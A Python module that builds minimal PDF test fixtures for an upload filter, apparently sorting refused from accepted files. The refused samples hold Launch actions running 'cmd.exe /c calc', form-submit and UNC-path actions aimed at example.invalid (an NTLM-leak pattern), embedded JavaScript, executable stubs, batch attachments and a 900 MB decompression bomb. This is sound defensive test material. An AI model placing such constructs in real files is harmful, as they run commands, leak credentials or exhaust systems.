# ruff: noqa: C408, E501, N817 - recipes, kept as short as they were found
"""Minimal PDFs of the kinds that strangers sent: FILES, name -> content (fa_ refused, fr_ and ok_ accepted)."""

from __future__ import annotations

import io
import zipfile
import zlib

import pikepdf
from pikepdf import Array as A
from pikepdf import Dictionary as D
from pikepdf import Name as N
from pikepdf import String as S
from PIL import Image

FILES: dict[str, bytes] = {}


def put(name, data):
    FILES[name] = data


def pdf(change=None, **save):
    p = pikepdf.new()
    p.add_blank_page(page_size=(200, 200))
    if change:
        change(p)
    b = io.BytesIO()
    p.save(b, **save)
    return b.getvalue()


plain = pdf()
put("ok_plain.pdf", plain)
put("fr_owner_password_only.pdf", pdf(encryption=pikepdf.Encryption(owner="x", user="", R=4, aes=True)))
put("fr_newline_before_header.pdf", b"\r\n" + plain)
put("fr_no_eof_marker.pdf", plain.replace(b"%%EOF\n", b""))


def names_js_empty(p):
    p.Root.Names = D(JavaScript=D(Names=A([])))


put("fr_empty_javascript_name_tree.pdf", pdf(names_js_empty))


def font_named_js(p):
    p.pages[0].obj.Resources = D(
        Font=D(JS=p.make_indirect(D(Type=N.Font, Subtype=N.Type1, BaseFont=N.Helvetica)))
    )


put("fr_resource_named_JS.pdf", pdf(font_named_js))


def html_attached(p):
    p.attachments["laporan.html"] = pikepdf.AttachedFileSpec(p, b"<p>tabel</p>", filename="laporan.html")


put("fr_html_attachment.pdf", pdf(html_attached))
put("ok_damaged_startxref.pdf", plain.replace(b"startxref\n", b"startxref\n9"))


def act(**kw):
    def change(p):
        p.Root.OpenAction = p.make_indirect(D(**kw))

    return change


put("ok_refused_js.pdf", pdf(act(S=N.JavaScript, JS=S("app.alert(1)"))))
put("ok_refused_launch.pdf", pdf(act(S=N.Launch, F=S("cmd.exe"))))


def launch_indirect(p):
    p.Root.OpenAction = p.make_indirect(
        D(S=p.make_indirect(N.Launch), F=S("cmd.exe"), Win=D(F=S("cmd.exe"), P=S("/c calc")))
    )


put(
    "fa_launch_with_indirect_name.pdf",
    pdf(launch_indirect, object_stream_mode=pikepdf.ObjectStreamMode.disable),
)
put("fa_submitform.pdf", pdf(act(S=N.SubmitForm, F=D(FS=N.URL, F=S("http://example.invalid/x")), Flags=4)))
put("fa_importdata.pdf", pdf(act(S=N.ImportData, F=S("\\\\example.invalid\\share\\x.fdf"))))
put("fa_gotor_unc_ntlm.pdf", pdf(act(S=N.GoToR, F=S("\\\\example.invalid\\share\\x.pdf"), D=A([0, N.Fit]))))


def xfa(p):
    x = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f"><event activity="initialize"><script contentType="application/x-javascript">xfa.host.messageBox("x")</script></event></subform></template></xdp:xdp>'
    p.Root.AcroForm = D(Fields=A([]), XFA=p.make_stream(x))


put("fa_xfa_script.pdf", pdf(xfa))


def rich(p):
    f = p.make_indirect(
        D(Type=N.Filespec, F=S("x.swf"), UF=S("x.swf"), EF=D(F=p.make_stream(b"FWS\x09" + b"\0" * 60)))
    )
    c = D(
        Type=N.RichMediaContent,
        Assets=D(Names=A([S("x.swf"), f])),
        Configurations=A([D(Subtype=N.Flash, Instances=A([D(Asset=f)]))]),
    )
    p.pages[0].obj.Annots = A(
        [
            p.make_indirect(
                D(
                    Type=N.Annot,
                    Subtype=N.RichMedia,
                    Rect=A([0, 0, 9, 9]),
                    RichMediaContent=c,
                    RichMediaSettings=D(Activation=D(Condition=N.PO)),
                )
            )
        ]
    )


put("fa_richmedia_flash.pdf", pdf(rich))
EXE = b"MZ\x90\0" + b"\0" * 56 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0" + b"\0" * 64


def attach(name, data, filt=None, raw=None):
    def change(p):
        st = p.make_stream(data if raw is None else raw)
        st.Type = N.EmbeddedFile
        if filt is not None:
            st.stream_dict.Filter = filt if not isinstance(filt, list) else A(filt)
        fs = p.make_indirect(D(Type=N.Filespec, F=S(name), UF=S(name), EF=D(F=st)))
        p.Root.Names = D(EmbeddedFiles=D(Names=A([S(name), fs])))

    return change


KEEP = dict(
    compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none, recompress_flate=False
)
put("ok_refused_exe_attached.pdf", pdf(attach("a.txt", EXE), **KEEP))
put(
    "fa_exe_asciihex_flate.pdf",
    pdf(
        attach("a.txt", b"", [N.ASCIIHexDecode, N.FlateDecode], zlib.compress(EXE).hex().encode() + b">"),
        **KEEP,
    ),
)
for label, name, data in [
    ("trailing_dot", "faktur.bat.", b"@start calc\r\n"),
    ("trailing_space", "faktur.cmd ", b"@start calc\r\n"),
    ("xll", "a.xll", b"x"),
    ("iso", "a.iso", b"\0" * 99),
    ("url", "a.url", b"[InternetShortcut]\nURL=file://x"),
    ("mht", "a.mht", b"MIME-Version: 1.0"),
    ("xsl", "a.xsl", b"<x/>"),
    ("msc", "a.msc", b"x"),
    ("appref", "a.appref-ms", b"x"),
    ("settingcontent", "a.settingContent-ms", b"x"),
    ("vhdx", "a.vhdx", b"x"),
    ("ps1xml", "a.psm1", b"x"),
    ("pyw", "a.pyw", b"x"),
    ("xla", "a.xla", b"x"),
    ("inf", "a.inf", b"x"),
    ("xbap", "a.xbap", b"x"),
    ("desktop", "a.desktop", b"[Desktop Entry]"),
]:
    put(f"fa_attached_{label}.pdf", pdf(attach(name, data)))
zb = io.BytesIO()
z = zipfile.ZipFile(zb, "w")
z.writestr("setup.exe", EXE)
z.close()
put("fa_attached_pdf_with_js.pdf", pdf(attach("b.pdf", pdf(act(S=N.JavaScript, JS=S("app.alert(1)"))))))
xm = io.BytesIO()
z = zipfile.ZipFile(xm, "w")
z.writestr("[Content_Types].xml", "<x>application/vnd.ms-excel.sheet.macroEnabled.main+xml</x>")
z.writestr("xl/vbaProject.bin", "x")
z.close()
put("fa_attached_html_as_txt.pdf", pdf(attach("b.txt", b"<html><script>alert(1)</script>")))


def portfolio(p):
    attach("isi.pdf", plain)(p)
    p.Root.Collection = D(Type=N.Collection, View=N.D)


put("ok_portfolio.pdf", pdf(portfolio))
# hidden second document behind comment at the end / front zip
put("fa_pdf_zip_with_comment_trailing.pdf", plain + zb.getvalue() + b"\n%%EOF\n")


put(
    "fr_ghostscript_banner_before_header.pdf",
    b"GPL Ghostscript 10.02.0 (2023-09-13)\nCopyright (C) 2023\n" + plain,
)
b = io.BytesIO()
Image.new("RGB", (9, 9)).save(b, "PDF")
first = b.getvalue()
both = io.BytesIO(first)
Image.new("RGB", (9, 9), "red").save(both, "PDF", append=True)
put("fr_two_scans_appended_by_pillow.pdf", both.getvalue())


def sparse(base):
    """a valid page whose object numbers begin at `base`: above about a third of the size in bytes qpdf 12.4 drops them"""
    out, off = b"%PDF-1.4\n", {}
    objs = {
        base: b"<</Type/Catalog/Pages %d 0 R>>" % (base + 1),
        base + 1: b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (base + 2),
        base + 2: b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 200 200]>>" % (base + 1),
    }
    for n, body in objs.items():
        off[n] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (n, body)
    x = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n%d 3\n" % base + b"".join(
        b"%010d 00000 n \n" % off[n] for n in objs
    )
    return out + b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (base + 3, base, x)


put("fr_high_object_numbers.pdf", sparse(1000))


def latex_af(p):
    p.attachments["latex-list-css.html"] = pikepdf.AttachedFileSpec(
        p, b"<style>li{}</style>", filename="latex-list-css.html"
    )


def acroform_number(p):
    p.Root.AcroForm = D(
        Fields=A(
            [
                p.make_indirect(
                    D(FT=N.Tx, T=S("n"), AA=D(F=D(S=N.JavaScript, JS=S('AFNumber_Format(0,0,0,0,"",true);'))))
                )
            ]
        )
    )


put("fr_acrobat_number_format.pdf", pdf(acroform_number))
c = zlib.compressobj(9)
bomb = b"".join(c.compress(b" " * 2**20) for _ in range(900)) + c.flush()


def page_bomb(p):
    s = p.make_stream(b"")
    s.write(bomb, filter=N.FlateDecode)
    p.pages[0].obj.Contents = s


put("fa_page_content_unfolds_to_900MB.pdf", pdf(page_bomb, compress_streams=False))
